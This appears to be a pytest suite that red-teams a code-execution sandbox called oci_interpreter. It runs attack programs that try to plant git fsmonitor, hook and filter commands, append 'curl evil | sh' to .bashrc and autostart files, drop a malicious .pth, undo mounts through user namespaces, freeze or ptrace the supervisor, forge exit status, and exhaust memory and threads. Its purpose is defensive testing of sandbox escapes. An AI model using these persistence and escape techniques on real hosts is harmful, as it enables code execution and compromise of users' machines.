"""Attacks from an adversarial review of the sandbox (issue 18): ways a program could run
code on the host later, through what its working directory holds or reaches. Each test is
an attack program; it runs under every containment that can stop it, and the tests of
what oci itself does (refusals, its own git calls, the environment) under all of them."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from oci_interpreter.core.errors import SandboxError
from oci_interpreter.core.git import git_status
from oci_interpreter.sandbox import containment, workspace
from oci_interpreter.sandbox.environment import scrubbed
from oci_interpreter.sandbox.limits import ExecResult, Limits
from oci_interpreter.sandbox.runner import run_program

pytestmark = pytest.mark.spawns

needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")


def _modes() -> list[str]:
    out = []
    for mode in ("bwrap", "unshare", "none"):
        try:
            if containment.probe(mode).mode == mode:
                out.append(mode)
        except Exception:
            continue
    return out


MODES = _modes()
NAMESPACED = [m for m in MODES if m != "none"]
# The modes that give the program a file system of its own (read-only outside the working
# directory, read-only islands inside it, private /tmp and /dev): bubblewrap builds it,
# and under unshare the supervisor does.
SEALED = [m for m in MODES if m in ("bwrap", "unshare")]
each_sealed_mode = pytest.mark.parametrize("mode", SEALED)
# How the program's writes reach the working directory in those modes: through an overlay
# whose changes oci applies by an allowlist (the default), or -- where no overlay can be
# mounted -- directly, with read-only islands. Attacks on the working directory run
# against both.
each_view = pytest.mark.parametrize(
    "mode,view", [pytest.param(m, v, id=f"{m}-{v}") for m in SEALED
                  for v in ("overlay", "islands")])


@pytest.fixture(autouse=True)
def _view(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
    callspec = getattr(request.node, "callspec", None)
    if callspec is not None and callspec.params.get("view") == "islands":
        force_islands(monkeypatch)


def force_islands(monkeypatch: pytest.MonkeyPatch) -> None:
    """The fallback where no overlay can be mounted: the program writes the directory."""
    from oci_interpreter.sandbox import kernel, runner

    monkeypatch.setattr(runner, "overlay_layers", lambda *a: (None, None))
    monkeypatch.setattr(kernel, "overlay_layers", lambda *a: (None, None))


def refused(result: ExecResult, path: Path) -> bool:
    """The result says a change at ``path`` (below it, or in a directory above it that
    was refused as a whole) was not applied."""
    for line in result.refused:
        where = Path(line.partition(": ")[0])
        if where == path or where in path.parents or path in where.parents:
            return True
    return False


def attack(code: str, cwd: Path, mode: str, **limits: object) -> ExecResult:
    return run_program(code=textwrap.dedent(code), cwd=cwd, limits=Limits(**limits),  # type: ignore[arg-type]
               sandbox=mode)


def git(repo: Path, *args: str) -> str:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    env.update(GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@example.com",
               GIT_COMMITTER_NAME="t", GIT_COMMITTER_EMAIL="t@example.com",
               GIT_CONFIG_GLOBAL="/dev/null", GIT_CONFIG_NOSYSTEM="1")
    return subprocess.run(["git", *args], cwd=repo, env=env, capture_output=True, text=True,
                          check=True, timeout=30).stdout


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    work = tmp_path / "project"
    work.mkdir()
    git(work, "init", "-q")
    (work / "app.py").write_text("print('hi')\n")
    git(work, "add", "app.py")
    git(work, "commit", "-q", "-m", "one")
    return work


# ---------------------------------------------------- 1. the working directory's .git --

GIT_ATTACK = """
import os, pathlib
marker = {marker!r}
hits = []
for rel, text in [
    (".git/config", "[core]\\n\\tfsmonitor = touch " + marker + "\\n"),
    (".git/hooks/post-checkout", "#!/bin/sh\\ntouch " + marker + "\\n"),
    (".git/info/attributes", "* filter=evil\\n"),
]:
    try:
        with open(rel, "a") as fh:
            fh.write(text)
        hits.append(rel)
    except OSError as exc:
        print("refused", rel, type(exc).__name__)
print("WROTE", hits)
"""


@needs_git
@each_view
def test_the_repository_metadata_never_changes(repo: Path, tmp_path: Path, mode: str,
                                               view: str) -> None:
    marker = tmp_path / "pwned"
    before = (repo / ".git" / "config").read_bytes()
    result = attack(GIT_ATTACK.format(marker=str(marker)), repo, mode)
    if view == "islands":
        assert "WROTE []" in result.stdout, result.stdout + result.stderr
    else:  # it wrote its view; none of it reached the repository, and the result says so
        assert result.workspace == "overlay" and refused(result, repo / ".git"), result
    assert (repo / ".git" / "config").read_bytes() == before
    assert not (repo / ".git" / "hooks" / "post-checkout").exists()
    git(repo, "status", "--porcelain")  # what a shell prompt runs
    assert not marker.exists()


@needs_git
@each_view
def test_nested_repositories_and_dot_git_files_never_change(repo: Path, mode: str,
                                                            view: str) -> None:
    sub = repo / "vendor" / "lib"
    sub.mkdir(parents=True)
    git(sub, "init", "-q")
    before = (sub / ".git" / "config").read_bytes()
    result = attack("""
        import os
        for path in ("vendor/lib/.git/config", "vendor/lib/.git/HEAD"):
            try:
                open(path, "a").write("x")
                print("WROTE", path)
            except OSError as exc:
                print("refused", path)
    """, repo, mode)
    if view == "islands":
        assert "WROTE" not in result.stdout, result.stdout
    else:
        assert refused(result, sub / ".git"), result.refused
    assert (sub / ".git" / "config").read_bytes() == before


@each_view
def test_a_new_repository_never_reaches_the_directory(tmp_path: Path, mode: str,
                                                      view: str) -> None:
    work = tmp_path / "w"
    work.mkdir()
    result = attack("""
        import os
        os.makedirs(".git/hooks")
        open(".git/config", "w").write("[core]\\n\\tfsmonitor = echo pwned\\n")
        os.makedirs("sub")
        open("sub/.git", "w").write("gitdir: ../.git\\n")
    """, work, mode)
    assert result.ok, result.stderr
    if view == "islands":  # written, and reported
        assert any(".git:" in w and str(work) in w for w in result.warnings), result.warnings
        assert any("sub/.git" in w for w in result.warnings), result.warnings
    else:  # not applied, and reported
        assert not (work / ".git").exists() and not (work / "sub" / ".git").exists()
        assert refused(result, work / ".git") and refused(result, work / "sub" / ".git")
        assert (work / "sub").is_dir()


@needs_git
def test_oci_s_own_git_call_runs_no_hook_filter_or_fsmonitor(repo: Path,
                                                              tmp_path: Path) -> None:
    """What oci fix runs before writing, on a repository a program could have written."""
    marker = tmp_path / "pwned"
    cmd = f"sh -c 'touch {marker}; cat'"
    with (repo / ".git" / "config").open("a") as fh:
        fh.write(f"[core]\n\tfsmonitor = touch {marker}\n\thooksPath = .git/evil\n"
                 f"[filter \"evil\"]\n\tclean = {cmd}\n\tsmudge = {cmd}\n\trequired = true\n")
    (repo / ".gitattributes").write_text("* filter=evil\n")
    (repo / "app.py").write_text("print('changed')\n")
    os.utime(repo / "app.py", (1, 1))  # stat-dirty: git status would run the clean filter
    assert git_status(repo / "app.py") == "modified"
    assert git_status(repo / ".gitattributes") == "untracked"
    assert not marker.exists()


@each_sealed_mode
def test_modified_files_are_listed_not_only_new_ones(tmp_path: Path, mode: str) -> None:
    work = tmp_path / "w"
    work.mkdir()
    (work / "data.csv").write_text("a,b\n")
    (work / "old.txt").write_text("x")
    result = attack("""
        import os
        open("data.csv", "a").write("1,2\\n")
        os.remove("old.txt")
        open("new.txt", "w").write("n")
    """, work, mode)
    assert result.files == (str(work / "new.txt"),)
    assert result.modified == (str(work / "data.csv"),)
    assert result.deleted == (str(work / "old.txt"),)
    assert set(result.to_dict()) >= {"files", "modified", "deleted", "warnings"}


@each_view
def test_a_new_virtualenv_or_bytecode_cache_is_refused_or_reported(
        tmp_path: Path, mode: str, view: str) -> None:
    work = tmp_path / "w"
    work.mkdir()
    result = attack("""
        import os
        os.makedirs("env/bin")
        open("env/pyvenv.cfg", "w").write("home = /usr/bin\\n")
        os.makedirs("__pycache__")
        open("__pycache__/app.cpython-311.pyc", "wb").write(b"x")
    """, work, mode)
    kinds = " ".join(result.warnings if view == "islands" else result.refused)
    assert "virtualenv" in kinds and "compiled Python" in kinds, result
    if view == "overlay":
        assert not (work / "env").exists() and not (work / "__pycache__").exists()


UNDO_THE_MOUNTS = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(what, rc):
    print(what, "OK" if rc == 0 else "refused")
def write(path):
    try:
        open(path, "a").write("x")
        print("WROTE", path)
    except OSError:
        print("refused", path)
# as the program: no capabilities, so no remount or unmount
call("umount .git", libc.umount2(b".git", 2))
call("remount / rw", libc.mount(None, b"/", None, 32 | 4096, None))
# in a user and mount namespace of its own (every capability in there)
CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000
if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
    call("nested umount .git", libc.umount2(b".git", 2))
    os.makedirs("/tmp/peek", exist_ok=True)
    # a bind without the island on top: the kernel refuses to split locked mounts
    call("nested bind without islands", libc.mount(b".", b"/tmp/peek", None, 4096, None))
    write("/tmp/peek/.git/config")
    call("nested remount / rw", libc.mount(None, b"/", None, 32 | 4096, None))
write(".git/config")
write("/etc/oci-pwned")
"""


@needs_git
@each_view
def test_the_program_cannot_undo_the_mounts_even_in_a_namespace_of_its_own(
        repo: Path, mode: str, view: str) -> None:
    before = (repo / ".git" / "config").read_bytes()
    result = attack(UNDO_THE_MOUNTS, repo, mode)
    assert result.ok, result.stderr
    lines = result.stdout.splitlines()
    assert not any(line.startswith(("umount", "remount", "nested umount", "nested remount"))
                   and line.endswith("OK") for line in lines), result.stdout
    assert "WROTE /etc/oci-pwned" not in result.stdout and not Path("/etc/oci-pwned").exists()
    if view == "islands":
        assert "OK" not in result.stdout and "WROTE" not in result.stdout, result.stdout
    # With an overlay, a nested namespace may bind the program's own view elsewhere and
    # write it: that is still the view; the real directory is under it, read-only.
    assert (repo / ".git" / "config").read_bytes() == before


# ----------------------------------------------------------- 2. the host's /tmp --

def test_tmp_root_home_and_oci_s_own_files_are_refused_as_working_directory(
        oci_home: Path) -> None:
    for bad in ("/", "/tmp"):
        with pytest.raises(SandboxError, match="working directory"):
            run_program(code="print(1)", cwd=bad, sandbox="none")
    with pytest.raises(SandboxError, match="home directory.*--allow-home"):
        run_program(code="print(1)", cwd=Path.home(), sandbox="none")
    with pytest.raises(SandboxError, match="inside oci's own installation"):
        run_program(code="print(1)", cwd=Path(sys.prefix) / "bin", sandbox="none")
    (oci_home / "models").mkdir(exist_ok=True)
    with pytest.raises(SandboxError, match="inside oci's own files"):
        run_program(code="print(1)", cwd=oci_home / "models", sandbox="none")
    one_line = SandboxError("x").one_line()
    assert "\n" not in one_line


@each_sealed_mode
def test_a_script_in_tmp_sees_only_itself_not_the_host_s_sockets(tmp_path: Path, mode: str) -> None:
    import socket
    import tempfile

    sock_dir = Path(tempfile.mkdtemp(prefix="oci-test-sock-", dir="/tmp"))
    script = Path(tempfile.mkstemp(prefix="oci-test-", suffix=".py", dir="/tmp")[1])
    server = socket.socket(socket.AF_UNIX)
    try:
        server.bind(str(sock_dir / "agent.sock"))
        server.listen(1)
        script.write_text(textwrap.dedent(f"""
            import os, socket
            print("SEES", sorted(os.listdir("/tmp")))
            s = socket.socket(socket.AF_UNIX)
            try:
                s.connect({str(sock_dir / "agent.sock")!r})
                print("CONNECTED")
            except OSError as exc:
                print("no socket:", type(exc).__name__)
        """))
        work = tmp_path / "w"
        work.mkdir()
        result = run_program(path=script, cwd=work, sandbox=mode)
        assert result.ok, result.stderr
        assert script.name in result.stdout  # the script file, bound alone
        assert sock_dir.name not in result.stdout  # not the rest of the host's /tmp
        assert "CONNECTED" not in result.stdout
    finally:
        server.close()
        script.unlink()
        shutil.rmtree(sock_dir)


def test_terminal_multiplexer_and_ide_handles_are_scrubbed() -> None:
    env = {"TMUX": "/tmp/tmux-0/default,1,0", "TMUX_PANE": "%1", "STY": "1.pts",
           "NVIM": "/run/nvim.sock", "NVIM_LISTEN_ADDRESS": "/tmp/nvim",
           "KITTY_LISTEN_ON": "unix:/tmp/kitty", "WEZTERM_UNIX_SOCKET": "/x",
           "VSCODE_IPC_HOOK_CLI": "/run/vscode.sock", "I3SOCK": "/run/i3",
           "SWAYSOCK": "/run/sway", "ZELLIJ_SESSION_NAME": "z", "LANG": "C.UTF-8",
           "TERM": "xterm-256color"}
    out = scrubbed(env, home="/h", tmpdir="/t", marker="m", cwd="/w")
    assert out["LANG"] == "C.UTF-8" and out["TERM"] == "xterm-256color"
    leaked = {k for k in env if k in out} - {"LANG", "TERM"}
    assert not leaked


# ------------------------------------- 3. and 4. oci's installation, config and data --

@each_view
def test_oci_s_installation_and_state_never_change_inside_the_working_directory(
        tmp_path: Path, oci_home: Path, monkeypatch: pytest.MonkeyPatch, mode: str,
        view: str) -> None:
    """A working directory that holds the virtualenv and package oci runs from, and oci's
    config: a .pth, a changed module or a config with sandbox = "none" would run on the
    host (or unsandboxed) at the next start."""
    work = tmp_path / "w"
    venv = work / ".venv"
    site = venv / "lib" / "python3" / "site-packages"
    pkg = work / "src" / "oci_interpreter"
    for d in (site, pkg):
        d.mkdir(parents=True)
    (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (pkg / "__init__.py").write_text("")
    home = work / "oci-state"
    home.mkdir()
    (home / "config.toml").write_text("")
    monkeypatch.setenv("OCI_HOME", str(home))
    monkeypatch.setattr(workspace, "_code_dirs", lambda: [site, pkg])
    monkeypatch.setattr(workspace, "installation", lambda: [venv, site, pkg])
    result = attack("""
        import os
        for path, text in [(".venv/lib/python3/site-packages/evil.pth", "import os\\n"),
                           ("src/oci_interpreter/__init__.py", "import os\\n"),
                           ("oci-state/config.toml", 'sandbox = "none"\\n'),
                           ("oci-state/data/history", "x")]:
            try:
                open(path, "a").write(text)
                print("WROTE", path)
            except OSError:
                print("refused", path)
        os.makedirs(os.path.expanduser("~/.cache"), exist_ok=True)
        print("HOME OK")
    """, work, mode)
    if view == "islands":
        assert "WROTE" not in result.stdout, result.stdout
    else:
        for path in (venv, pkg, home / "config.toml", home / "data"):
            assert refused(result, path), (path, result.refused)
        assert not (site / "evil.pth").exists() and (pkg / "__init__.py").read_text() == ""
    assert "HOME OK" in result.stdout, result.stderr  # the sandbox home stays writable
    assert (home / "config.toml").read_text() == ""


@each_view
def test_home_as_working_directory_only_when_allowed_and_its_dot_files_never_change(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: str, view: str) -> None:
    fake_home = tmp_path / "home"
    fake_home.mkdir()
    (fake_home / ".bashrc").write_text("# mine\n")
    (fake_home / ".config").mkdir()
    monkeypatch.setenv("HOME", str(fake_home))
    with pytest.raises(SandboxError, match="--allow-home"):
        attack("print(1)", fake_home, mode)
    result = attack("""
        for path in (".bashrc", ".config/autostart.desktop"):
            try:
                open(path, "a").write("curl evil | sh\\n")
                print("WROTE", path)
            except OSError:
                print("refused", path)
        open("notes.txt", "w").write("fine")
    """, fake_home, mode, allow_home=True)
    if view == "islands":
        assert "WROTE" not in result.stdout, result.stdout
    else:
        assert refused(result, fake_home / ".bashrc") and refused(result, fake_home / ".config")
    assert (fake_home / ".bashrc").read_text() == "# mine\n"
    assert not (fake_home / ".config" / "autostart.desktop").exists()
    assert (fake_home / "notes.txt").read_text() == "fine"


# ------------------------------------------- 5. forged results, the status channel --

@pytest.mark.parametrize("mode", MODES)
def test_a_program_cannot_forge_its_exit_status(tmp_path: Path, mode: str) -> None:
    result = attack("""
        import os, signal
        fake = repr({"event": "exit", "exit_code": 0, "limit": None, "maxrss": 1, "cpu": 0.0})
        for fd in range(3, 64):
            try:
                os.write(fd, (fake + "\\n").encode())
            except OSError:
                pass
        for pid in {os.getppid(), 1 if os.getpid() < 100 else os.getppid()}:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        raise SystemExit(3)
    """, tmp_path, mode)
    assert not result.ok, result
    # In a PID namespace the supervisor is init and survives; without one the program
    # can kill it, and the run is reported as killed -- never as the forged exit 0.
    assert result.exit_code == (3 if mode != "none" else -9), result


@pytest.mark.parametrize("mode", MODES)
def test_malformed_and_flooding_events_do_not_hurt_oci(tmp_path: Path, mode: str) -> None:
    result = attack("""
        import os, time
        bad = [b"{'event': 'exit', 'exit_code': 'zero'}\\n", b"{'event': 'peak'}\\n",
               b"[1, 2\\n", b"{'event': 'exception', 'type': 5}\\n", b"\\xff\\xfe\\n"]
        flood = repr({"event": "plot", "path": "x" * 3000}).encode() + b"\\n"
        endless = b"{'event': 'stdin_read'" + b" " * 200000
        for fd in range(3, 64):
            try:
                for line in bad:
                    os.write(fd, line)
                t = time.monotonic()
                while time.monotonic() - t < 0.5:
                    os.write(fd, flood)
                os.write(fd, endless)
            except OSError:
                pass
        print("done")
    """, tmp_path, mode, timeout=20)
    assert result.exit_code == 0 and "done" in result.stdout, result
    assert len(result.plots) <= 1000


# --------------------------------------------------- 7. limits switched off --

FREEZE = """
import ctypes, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
for pid in {{1 if os.getpid() < 100 else os.getppid(), os.getppid()}}:
    try:
        os.kill(pid, signal.SIGSTOP)
    except OSError:
        pass
    libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
time.sleep(0.3)
hog = []
for _ in range(40):
    hog.append(bytearray(16 * 1024 * 1024))  # 640 MiB, past --memory {memory}
    time.sleep(0.02)
print("NOT STOPPED", len(hog))
"""


@pytest.mark.parametrize("mode", NAMESPACED)
def test_the_supervisor_cannot_be_stopped_or_traced(tmp_path: Path, mode: str) -> None:
    result = attack(FREEZE.format(memory="256M"), tmp_path, mode, memory=256 * 1024 * 1024,
                    timeout=20)
    assert "NOT STOPPED" not in result.stdout, result
    assert result.limit == "memory", result


def test_a_frozen_supervisor_is_killed_by_its_silence(tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """Where the program can stop its supervisor (no PID namespace), oci notices the
    missing heartbeat and kills the run instead of waiting for a wall clock."""
    from oci_interpreter.sandbox import box

    monkeypatch.setattr(box, "SUPERVISOR_SILENCE_S", 1.5)
    result = attack("""
        import os, signal, time
        os.kill(os.getppid(), signal.SIGSTOP)
        time.sleep(30)
    """, tmp_path, "none", timeout=25)
    assert not result.ok
    assert result.error and "supervisor stopped answering" in result.error
    assert result.duration_s < 10


# -------------------------------------- 8. memory no limit counted; 9. threads --

@pytest.mark.parametrize("mode", NAMESPACED)
def test_memfd_counts_against_the_memory_limit(tmp_path: Path, mode: str) -> None:
    result = attack("""
        import os, time
        block = b"x" * (16 * 1024 * 1024)
        fds = [os.memfd_create(f"hoard{i}") for i in range(4)]
        for fd in fds:  # 4 x 96 MiB, never mapped, each below the file-size limit
            for _ in range(6):
                os.write(fd, block)
                time.sleep(0.02)
        time.sleep(1)
        print("KEPT", sum(os.fstat(fd).st_size for fd in fds) >> 20)
    """, tmp_path, mode, memory=128 * 1024 * 1024, timeout=20)
    assert "KEPT" not in result.stdout, result
    assert result.limit == "memory"


@each_sealed_mode
@pytest.mark.parametrize("where", ["/tmp", "/dev/shm"])
def test_the_private_tmpfs_counts_against_the_memory_limit(tmp_path: Path,
                                                          where: str, mode: str) -> None:
    result = attack(f"""
        import time
        block = b"x" * (16 * 1024 * 1024)
        try:
            with open("{where}/hoard", "wb") as fh:
                for _ in range(24):  # 384 MiB
                    fh.write(block)
                    fh.flush()
                    time.sleep(0.02)
            time.sleep(1)
            print("KEPT")
        except OSError as exc:
            print("refused:", exc)
    """, tmp_path, mode, memory=128 * 1024 * 1024, timeout=20)
    assert "KEPT" not in result.stdout, result
    assert result.limit == "memory" or "refused" in result.stdout


@pytest.mark.parametrize("mode", NAMESPACED)
def test_threads_count_against_the_process_limit(tmp_path: Path, mode: str) -> None:
    result = attack("""
        import threading, time
        started = []
        threading.stack_size(256 * 1024)  # small stacks: within the address-space limit
        for _ in range(100):
            t = threading.Thread(target=time.sleep, args=(5,), daemon=True)
            t.start()
            started.append(t)
        time.sleep(1)
        print("THREADS", len(started))
    """, tmp_path, mode, processes=4, timeout=20)
    assert "THREADS 100" not in result.stdout, result
    assert result.limit == "processes" or result.exit_code != 0


# ------------------------------------------------------------------ smaller --

def test_secrets_are_scrubbed_by_name_and_by_value() -> None:
    env = {
        "MYSQL_PWD": "x", "DB_PASS": "x", "SMTP_PW": "x", "ADMIN_PWD": "x", "MY_JWT": "x",
        "DATABASE_URI": "postgres://app:s3cret@db:5432/app",
        "REDIS_URL": "redis://:hunter2@cache:6379/0",
        "HTTPS_PROXY": "http://me:pw@proxy:3128",
        "PIP_INDEX_URL": "https://user:tok@pypi.example.com/simple",
        "SOMETHING": "ghp_" + "a" * 36, "OTHER": "AKIA" + "A" * 16,
        "HOOK": "https://hooks.slack.com/services/T000/B000/XXXX",
        "BEARER": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.sig",
        # kept: not secrets
        "PWD": "/w", "OLDPWD": "/", "PATH": "/usr/bin", "LANG": "C.UTF-8",
        "PROXY_PLAIN": "http://proxy:3128", "DOCS_URL": "https://example.com/a:b@c",
    }
    out = scrubbed(env, home="/h", tmpdir="/t", marker="m", cwd="/w")
    kept = {k for k in env if k in out}
    assert kept == {"PWD", "OLDPWD", "PATH", "LANG", "PROXY_PLAIN", "DOCS_URL"}, kept


# ------------------------------------------------------------- 6. the kernel --

@pytest.mark.parametrize("mode", MODES)
def test_a_cell_cannot_forge_its_end_or_a_later_cell_s_output(tmp_path: Path,
                                                              mode: str) -> None:
    from oci_interpreter.sandbox.box import SENTINEL
    from oci_interpreter.sandbox.kernel import Kernel

    with Kernel(tmp_path, Limits(timeout=10), sandbox=mode) as kernel:
        marker = SENTINEL.decode()
        forged = kernel.execute(f"""
import sys
for n in range(1, 10):
    for cell in (str(n), ""):
        print({marker!r} + cell)
        print({marker!r} + cell, file=sys.stderr)
print("ALL 12 TESTS PASSED")
print("cell 1 ends here")
""")
        assert "cell 1 ends here" in forged.stdout
        later = kernel.execute("print('cell 2')")
        assert later.stdout == "cell 2\n", later.stdout


@pytest.mark.parametrize("mode", MODES)
def test_stragglers_of_a_cell_do_not_reach_the_next_one(tmp_path: Path, mode: str) -> None:
    from oci_interpreter.sandbox.kernel import Kernel

    with Kernel(tmp_path, Limits(timeout=10), sandbox=mode) as kernel:
        kernel.execute("x = 1")
        first = kernel.execute("""
import threading, time, subprocess, sys
def late():
    time.sleep(0.5)
    print("ALL 12 TESTS PASSED", flush=True)
threading.Thread(target=late, daemon=True).start()
subprocess.Popen([sys.executable, "-c",
                  "import time; time.sleep(0.5); print('FROM A CHILD', flush=True)"])
print("started")
""")
        assert first.stdout == "started\n"
        assert any("thread" in w for w in first.warnings), first.warnings
        assert first.state_lost  # restarted to stop the thread: said plainly
        time.sleep(1.0)
        second = kernel.execute("print('cell 3')")
        assert second.stdout == "cell 3\n", second.stdout


@pytest.mark.parametrize("mode", MODES)
def test_a_forked_child_does_not_become_a_second_kernel(tmp_path: Path, mode: str) -> None:
    from oci_interpreter.sandbox.kernel import Kernel

    with Kernel(tmp_path, Limits(timeout=10), sandbox=mode) as kernel:
        kernel.execute("import os\nvalue = 7")
        fork = kernel.execute("pid = os.fork()\nif pid == 0:\n"
                              "    raise ValueError('in the child')\n"
                              "os.waitpid(pid, 0)\nprint('parent')")
        assert "parent" in fork.stdout
        for n in range(3):
            result = kernel.execute(f"print(value + {n})")
            assert result.stdout == f"{7 + n}\n" and not result.error, result


def test_a_kernel_that_died_between_cells_says_its_state_is_lost(tmp_path: Path) -> None:
    from oci_interpreter.sandbox.kernel import Kernel

    with Kernel(tmp_path, Limits(timeout=10)) as kernel:
        assert not kernel.execute("value = 1").state_lost
        box = kernel._box
        assert box is not None
        box.kill()
        box.proc.wait(5)
        after = kernel.execute("print('value' in globals())")
        assert after.stdout == "False\n" and after.state_lost
        assert not kernel.execute("print(2)").state_lost


@pytest.mark.parametrize("mode", MODES)
def test_output_after_the_program_ends_is_shown_live_too(tmp_path: Path, mode: str) -> None:
    """A grandchild that writes after the program's exit: what is captured is also shown."""
    shown: list[str] = []
    result = run_program(code=textwrap.dedent("""
        import subprocess, sys
        subprocess.Popen([sys.executable, "-c",
                          "import time; time.sleep(0.1); print('late line', flush=True)"])
        print("early line", flush=True)
    """), cwd=tmp_path, sandbox=mode, on_output=lambda stream, text: shown.append(text))
    assert "early line" in result.stdout
    assert "".join(shown) == result.stdout + result.stderr or (
        "late line" not in result.stdout and "".join(shown).strip() == result.stdout.strip())


@each_view
def test_the_file_scan_after_a_run_is_bounded(tmp_path: Path, mode: str, view: str) -> None:
    work = tmp_path / "w"
    work.mkdir()
    started = time.monotonic()
    result = attack("""
        import os
        for i in range(60000):
            os.mkdir(f"d{i}")
    """, work, mode, timeout=30)
    scan_and_run = time.monotonic() - started
    assert result.ok, result.stderr
    if view == "islands":
        # the scans before and after are bounded (20,000 entries, 1 s each): no more than
        # the run itself plus a few seconds, however many entries the program made
        assert scan_and_run - result.duration_s < 4, (scan_and_run, result.duration_s)
    else:
        # nothing is scanned: what the program made is applied, at a cost that grows
        # with what it made (benchmarks/sandbox_overhead.py measures it), not with
        # what the directory held before
        assert len(os.listdir(work)) == 60000
    started = time.monotonic()
    again = attack("print('next')", work, mode)
    assert again.ok and time.monotonic() - started < 5


def test_coverage_events_are_bounded_and_only_taken_from_traced_runs() -> None:
    from oci_interpreter.sandbox.status import MAX_LINES_RUN
    from oci_interpreter.sandbox.status import parse_ranges as _parse_ranges

    # a program writing its own "coverage" lines: huge ranges cost oci nothing
    many = ",".join(["1-99999"] * 400)
    assert len(_parse_ranges(many)) == 99_999
    assert len(_parse_ranges("1-100000,200000-300000", room=10)) == 10
    assert _parse_ranges("0-5,7-3,x,5-y,9") == {9}
    assert _parse_ranges(f"{MAX_LINES_RUN - 2}-{MAX_LINES_RUN + 50}") == set()  # out of range
